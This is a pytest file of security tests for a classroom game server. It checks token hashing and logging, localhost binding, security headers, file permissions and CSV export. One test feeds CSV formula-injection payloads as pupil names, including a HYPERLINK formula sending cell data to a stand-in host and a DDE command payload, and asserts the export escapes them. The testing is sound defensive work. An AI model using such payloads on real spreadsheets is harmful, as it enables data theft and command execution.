"""What a security reviewer checks: tokens stored as hashes, never logged; localhost by default.

The tokens of a class (the teacher's, every student's) must appear nowhere
in the database file or in anything the server logged while the class ran,
whatever the log level; only their SHA-256 may be stored.
"""

from __future__ import annotations

import hashlib
import logging
import os
import stat
import subprocess
import sys
from pathlib import Path
from typing import Any

import httpx
import pytest

from .conftest import Pupil
from .serverproc import ServerProcess
from .test_class_play import play_until_ended


def test_tokens_are_stored_as_hashes_and_never_logged(
    class_server: Any, tmp_path: Path, caplog: pytest.LogCaptureFixture, capfd: Any
) -> None:
    caplog.set_level(logging.DEBUG)
    session = class_server("prohis", rounds=1, seats=3, log_level="debug")
    pupils = [Pupil(session.url, session.room, n).join().open() for n in ("Ada", "Bob")]
    for pupil in pupils:
        pupil.until(lambda m: m["type"] == "waiting")
    session.start()
    play_until_ended(pupils)
    session.stop()
    tokens = [session._token, *(p.token for p in pupils)]
    stored = b"".join(p.read_bytes() for p in tmp_path.glob("class0.sqlite*"))
    # what the server's side logged (the test's own clients log their frames: left out)
    clients = ("websockets.client", "httpx", "httpcore")
    logged = "\n".join(r.getMessage() for r in caplog.records if not r.name.startswith(clients))
    assert "prohis_nb.live" in {r.name for r in caplog.records}
    printed = capfd.readouterr()
    logged += printed.out + printed.err  # uvicorn's own log (its access log at debug level)
    assert "/api/join" in logged
    for token in tokens:
        assert token is not None
        assert token.encode() not in stored
        assert token not in logged
        assert hashlib.sha256(token.encode()).hexdigest().encode() in stored
    for pupil in pupils:
        assert all(token not in frame for frame in pupil.frames for token in tokens[:1])


def test_the_server_listens_on_localhost_unless_told_otherwise(class_server: Any) -> None:
    session = class_server("prohis", rounds=1, seats=3)
    assert session.url.startswith("http://127.0.0.1:")
    assert session.join_url.startswith("http://127.0.0.1:") and session.join_url.endswith(
        f"/?room={session.room}"
    )
    sock = session._server.sock  # type: ignore[union-attr]
    assert sock.getsockname()[0] == "127.0.0.1"


def test_pages_carry_security_headers_and_no_inline_script(class_server: Any) -> None:
    session = class_server("prohis", rounds=1, seats=3)
    page = httpx.get(session.url + "/")
    assert page.status_code == 200
    policy = page.headers["content-security-policy"]
    assert "script-src 'self'" in policy and "frame-ancestors 'none'" in policy
    assert page.headers["x-content-type-options"] == "nosniff"
    assert page.headers["referrer-policy"] == "no-referrer"
    assert "<script>" not in page.text and '<script src="/static/app.js"' in page.text
    assert httpx.get(session.url + "/static/app.js").status_code == 200
    css = httpx.get(session.url + "/render.css")
    assert css.status_code == 200 and ".pnb-table" in css.text and "<style>" not in css.text


def test_the_session_shows_the_address_the_code_and_a_qr_code(class_server: Any) -> None:
    session = class_server("prohis", rounds=1, seats=3)
    shown = session._repr_html_()
    assert session.room in shown and session.join_url in shown and "<svg" in shown
    import segno

    decoded = segno.make(session.join_url, error="m").svg_inline(scale=5)
    assert decoded in shown  # the QR code encodes exactly the join address


def test_the_command_line_writes_the_teacher_token_for_its_owner_only(tmp_path: Path) -> None:
    db = tmp_path / "class.sqlite"
    command = [sys.executable, "-m", "prohis_nb", "class", "serve", "--db", str(db), "--port", "0",
               "--log-level", "info"]  # fmt: skip
    env = {k: v for k, v in os.environ.items() if k != "PROHIS_TEACHER_TOKEN"}
    process = subprocess.Popen(command, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True,
                               env=env)  # fmt: skip
    lines = []
    try:
        assert process.stdout is not None
        while not any(line.startswith("teacher token") for line in lines):
            line = process.stdout.readline()
            assert line, "".join(lines)
            lines.append(line)
    finally:
        process.terminate()
        out, _ = process.communicate(timeout=20)
    path = Path(str(db) + ".teacher-token")
    token = path.read_text().strip()
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    assert token not in "".join(lines) + out  # said where it is, never printed
    assert f"written to {path}" in "".join(lines)


def test_a_new_teacher_token_replaces_the_old_one(tmp_path: Path) -> None:
    server = ServerProcess(tmp_path / "class.sqlite", "--seats", "3")
    server.start()
    old = server.token
    server.stop()
    result = subprocess.run(
        [sys.executable, "-m", "prohis_nb", "class", "token", "--db", server.db],
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert result.returncode == 0, result.stderr
    new = Path(server.db + ".teacher-token").read_text().strip()
    assert new != old and new not in result.stdout
    server.env.pop("PROHIS_TEACHER_TOKEN")
    server.token = new
    server.start()
    try:
        assert server.session().status()["state"] == "lobby"
        refused = httpx.get(
            server.url + "/api/teacher/status", headers={"Authorization": f"Bearer {old}"}
        )
        assert refused.status_code == 401
    finally:
        server.stop()


def test_export_on_the_command_line_refuses_to_write_over_files(tmp_path: Path) -> None:
    server = ServerProcess(tmp_path / "class.sqlite", "--seats", "3")
    server.start()
    server.stop()
    folder = tmp_path / "out"
    run = [sys.executable, "-m", "prohis_nb", "class", "export", str(folder), "--db", server.db]
    first = subprocess.run(run, capture_output=True, text=True, timeout=60)
    assert first.returncode == 0, first.stderr
    assert (folder / "decisions.csv").exists()
    second = subprocess.run(run, capture_output=True, text=True, timeout=60)
    assert second.returncode == 1 and "not empty" in second.stderr and not second.stdout
    assert "Traceback" not in second.stderr


def test_the_health_check_says_only_that_the_server_is_up(class_server: Any) -> None:
    session = class_server("convoy", rounds=1)
    answer = httpx.get(session.url + "/api/health")
    assert answer.status_code == 200 and answer.json() == {"ok": True}
    assert session.room not in answer.text


def test_export_on_the_command_line_names_its_own_option(tmp_path: Path) -> None:
    folder = tmp_path / "out"
    folder.mkdir()
    (folder / "mine.txt").write_text("the teacher's notes")
    run = [sys.executable, "-m", "prohis_nb", "class", "export", str(folder),
           "--db", str(tmp_path / "none.sqlite")]  # fmt: skip
    result = subprocess.run(run, capture_output=True, text=True, timeout=60)
    assert result.returncode == 1 and "--force" in result.stderr
    assert "overwrite=True" not in result.stderr
    assert (folder / "mine.txt").read_text() == "the teacher's notes"


def test_the_class_database_is_readable_by_its_owner_only(
    class_server: Any, tmp_path: Path
) -> None:
    db = tmp_path / "private.sqlite"
    session = class_server("convoy", rounds=1, db=db)
    pupil = Pupil(session.url, session.room, "Ada").join().open()
    pupil.until(lambda m: m["type"] == "waiting")
    session.start()
    pupil.until(lambda m: m["type"] == "state")
    files = [p for p in (db, Path(f"{db}-wal"), Path(f"{db}-shm")) if p.exists()]
    assert db in files and len(files) == 3
    for path in files:
        assert stat.S_IMODE(path.stat().st_mode) == 0o600, path


def test_names_that_look_like_formulas_are_inert_in_the_csv(
    class_server: Any, tmp_path: Path
) -> None:
    import csv

    names = ['=HYPERLINK("//ev.il/"&A2,"x")', "+cmd|' /C calc'!A0",
             "-2+3", "@SUM(A1)", "Ada"]  # fmt: skip
    session = class_server("convoy", rounds=1, seats=2)
    pupils = [Pupil(session.url, session.room, name).join().open() for name in names]
    for pupil in pupils:
        pupil.until(lambda m: m["type"] == "waiting")
    session.start()
    play_until_ended(pupils)
    folder = session.export(tmp_path / "out")
    with open(folder / "decisions.csv", newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    shown = {row["name"] for row in rows if row["name"]}
    assert shown >= {"'" + n for n in names[:4]} | {"Ada"}
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), row


def _interface_addresses() -> set[str]:
    """This machine's IPv4 addresses, read from the kernel by `ip` (independently of the server)."""
    import shutil

    if shutil.which("ip") is None:
        pytest.skip("the ip command is not installed")
    out = subprocess.run(["ip", "-4", "-o", "addr"], capture_output=True, text=True).stdout
    return {line.split()[3].split("/")[0] for line in out.splitlines() if " inet " in line}


def test_the_address_for_phones_is_the_machines_own_not_loopback(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    import socket

    from prohis_nb.live.server import lan_address

    mine = _interface_addresses() - {"127.0.0.1"}
    if not mine:
        pytest.skip("this machine has no network interface but loopback")
    # as on Debian and Ubuntu, the host name maps to a loopback address in /etc/hosts
    monkeypatch.setattr(socket, "gethostbyname", lambda _name: "127.0.1.1")
    assert lan_address() in mine
    from prohis_nb.live.session import _lan_address

    assert _lan_address() in mine
